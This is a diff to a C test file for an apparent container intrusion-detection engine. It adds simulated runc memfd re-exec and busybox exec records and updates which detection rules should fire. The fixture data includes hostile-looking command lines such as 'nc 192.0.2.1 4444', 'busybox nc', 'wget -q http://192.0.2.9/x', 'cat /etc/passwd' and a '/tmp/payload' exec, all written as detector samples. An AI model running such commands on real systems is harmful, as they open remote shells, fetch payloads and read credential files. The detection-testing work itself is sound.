@@ -41,11 +41,16 @@ static const char fixture[] =
 	"INSERT INTO cgroups (host_id, cgroup_id, path, container_id) VALUES"
 	" (1, 1, '/', NULL), (1, 501, '/system.slice/docker-" CID1 ".scope', 1),"
 	" (1, 502, '/system.slice/docker-" CID2 ".scope', 2);"
-	/* processes: 1-9 host, 10-29 container 1, 30-49 container 2 */
-	"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50)"
+	/* processes: 1-9 and 51-60 host, 10-29 and 61-70 container 1, 30-49 container 2 */
+	"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 70)"
 	" INSERT INTO processes (proc_id, host_id, pid, start, cgroup_id, container_id)"
-	" SELECT i, 1, 1000 + i, i * 1000, CASE WHEN i < 10 THEN 1 WHEN i < 30 THEN 501 ELSE 502 END,"
-	" CASE WHEN i < 10 THEN NULL WHEN i < 30 THEN 1 ELSE 2 END FROM n;"
+	" SELECT i, 1, 1000 + i, i * 1000, CASE WHEN i < 10 OR i BETWEEN 51 AND 60 THEN 1"
+	" WHEN i < 30 OR i > 60 THEN 501 ELSE 502 END,"
+	" CASE WHEN i < 10 OR i BETWEEN 51 AND 60 THEN NULL WHEN i < 30 OR i > 60 THEN 1 ELSE 2 END FROM n;"
+	/* runc (51) forks 52, 57 and 58; sh (53) forks 54; /tmp/runc (55) forks 56 */
+	"UPDATE processes SET parent_id = 51 WHERE proc_id IN (52, 57, 58);"
+	"UPDATE processes SET parent_id = 53 WHERE proc_id = 54;"
+	"UPDATE processes SET parent_id = 55 WHERE proc_id = 56;"
 	"INSERT INTO execs (exec_id, proc_id, host_id, pid, start, ts, kind, ret, filename, argv, cmdline,"
 	" uid, euid, container_id, pidns, mntns, netns, vpid) VALUES"
 	/* snapshots: host init; container 1 runs nginx as its pid 1; container 2 runs curl */
@@ -94,7 +99,29 @@ static const char fixture[] =
 	" (61, 23, 1, 1023, 23000, 61e9, 'exec', 0, '/tmp/payload', '[\"payload\"]', 'payload', 0, 0, 1, 200, 201, 202, 18),"
 	" (62, 23, 1, 1023, 23000, 62e9, 'exec', 0, '/bin/nc', '[\"nc\",\"192.0.2.1\",\"4444\"]', 'nc 192.0.2.1 4444', 0, 0, 1, 200, 201, 202, 18),"
 	" (63, 24, 1, 1024, 24000, 63e9, 'exec', 0, '/bin/late', '[\"late\"]', 'late', 0, 0, 1, 200, 201, 202, 19),"
-	" (64, 25, 1, 1025, 25000, 64e9, 'exec', 0, '/app/server', '[\"server\"]', 'server', 0, 0, 1, 200, 201, 202, 1);"
+	" (64, 25, 1, 1025, 25000, 64e9, 'exec', 0, '/app/server', '[\"server\"]', 'server', 0, 0, 1, 200, 201, 202, 1),"
+	/* exec-from-temp and runc re-executing itself from a memfd (CVE-2019-5736 mitigation):
+	 * - runc init from /dev/fd/5 under runc (after its /proc/self/exe exec); + the same
+	 * argv under sh; + /tmp/runc itself; + runc init under /tmp/runc; + another memfd
+	 * image under runc; - runc init as /proc/self/fd/4 with a full argv[0] path */
+	" (70, 51, 1, 1051, 51000, 70e9, 'exec', 0, '/usr/sbin/runc', '[\"runc\",\"exec\",\"x\",\"sh\"]', 'runc exec x sh', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (71, 52, 1, 1052, 52000, 71e9, 'exec', 0, '/proc/self/exe', '[\"runc\",\"init\"]', 'runc init', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (72, 52, 1, 1052, 52000, 72e9, 'exec', 0, '/dev/fd/5', '[\"runc\",\"init\"]', 'runc init', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (73, 53, 1, 1053, 53000, 73e9, 'exec', 0, '/bin/sh', '[\"sh\"]', 'sh', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (74, 54, 1, 1054, 54000, 74e9, 'exec', 0, '/dev/fd/5', '[\"runc\",\"init\"]', 'runc init', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (75, 55, 1, 1055, 55000, 75e9, 'exec', 0, '/tmp/runc', '[\"runc\",\"run\",\"x\"]', 'runc run x', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (76, 56, 1, 1056, 56000, 76e9, 'exec', 0, '/dev/fd/5', '[\"runc\",\"init\"]', 'runc init', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (77, 57, 1, 1057, 57000, 77e9, 'exec', 0, '/dev/fd/3', '[\"payload\"]', 'payload', 0, 0, NULL, 100, 101, 102, NULL),"
+	" (78, 58, 1, 1058, 58000, 78e9, 'exec', 0, '/proc/self/fd/4', '[\"/usr/bin/runc\",\"init\"]', '/usr/bin/runc init', 0, 0, NULL, 100, 101, 102, NULL),"
+	/* busybox applets re-executed as /proc/self/exe, named by argv[0]: shell-in-container
+	 * + sh -c; - cat; + a script run by /bin/sh (argv[0] set by the kernel);
+	 * new-tool-in-container + wget in c1; + busybox nc in c1; - wget in c2 (its snapshot ran it) */
+	" (80, 61, 1, 1061, 61000, 80e9, 'exec', 0, '/proc/self/exe', '[\"sh\",\"-c\",\"id\"]', 'sh -c id', 0, 0, 1, 200, 201, 202, 20),"
+	" (81, 62, 1, 1062, 62000, 81e9, 'exec', 0, '/proc/self/exe', '[\"cat\",\"/etc/passwd\"]', 'cat /etc/passwd', 0, 0, 1, 200, 201, 202, 21),"
+	" (82, 63, 1, 1063, 63000, 82e9, 'exec', 0, 'ping', '[\"/bin/sh\",\"ping\"]', '/bin/sh ping', 0, 0, 1, 200, 201, 202, 22),"
+	" (83, 64, 1, 1064, 64000, 83e9, 'exec', 0, '/proc/self/exe', '[\"wget\",\"-q\",\"http://192.0.2.9/x\"]', 'wget -q http://192.0.2.9/x', 0, 0, 1, 200, 201, 202, 23),"
+	" (84, 65, 1, 1065, 65000, 84e9, 'exec', 0, '/bin/busybox', '[\"busybox\",\"nc\",\"192.0.2.1\",\"80\"]', 'busybox nc 192.0.2.1 80', 0, 0, 1, 200, 201, 202, 24),"
+	" (85, 36, 1, 1036, 36000, 85e9, 'exec', 0, '/proc/self/exe', '[\"wget\"]', 'wget', 0, 0, 2, 300, 301, 302, 6);"
 	"INSERT INTO connections (conn_id, proc_id, host_id, pid, start, ts, exec_id, container_id, cgroup_id,"
 	" family, daddr, dport) VALUES"
 	" (1, 23, 1, 1023, 23000, 60.5e9, 60, 1, 501, 4, '192.0.2.10', 80),"
@@ -174,12 +201,12 @@ static void test_builtin_set(void **state)
 
 static void test_shell_in_container(void **state)
 {
-	assert_string_equal(fired("shell-in-container"), "e10 e14");
+	assert_string_equal(fired("shell-in-container"), "e10 e14 e80 e82");
 }
 
 static void test_exec_from_temp(void **state)
 {
-	assert_string_equal(fired("exec-from-temp"), "e20 e21 e22 e23 e61");
+	assert_string_equal(fired("exec-from-temp"), "e20 e21 e22 e23 e61 e74 e75 e76 e77");
 }
 
 static void test_host_namespace_entry(void **state)
@@ -194,7 +221,7 @@ static void test_setuid_root_gain(void **state)
 
 static void test_new_tool(void **state)
 {
-	assert_string_equal(fired("new-tool-in-container"), "e50 e60 e62");
+	assert_string_equal(fired("new-tool-in-container"), "e50 e60 e62 e83 e84");
 }
 
 static void test_suspicious_port(void **state)
